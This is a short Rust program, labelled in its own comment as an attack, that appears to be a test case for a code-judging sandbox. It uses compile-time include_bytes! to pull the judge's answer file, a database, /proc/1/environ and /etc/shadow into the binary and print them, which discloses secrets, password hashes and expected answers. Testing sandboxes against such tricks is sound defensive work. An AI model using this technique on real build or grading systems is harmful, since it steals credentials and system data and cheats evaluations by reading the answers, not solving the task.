// attack: takes the answers, the database and environments of processes into the program as bytes
static ALL: [&[u8]; 4] = [
    include_bytes!("@ANSWER@"), include_bytes!("@DATABASE@"), include_bytes!("/proc/1/environ"),
    include_bytes!("/etc/shadow"),
];
fn main() { println!("{:?}", ALL); }
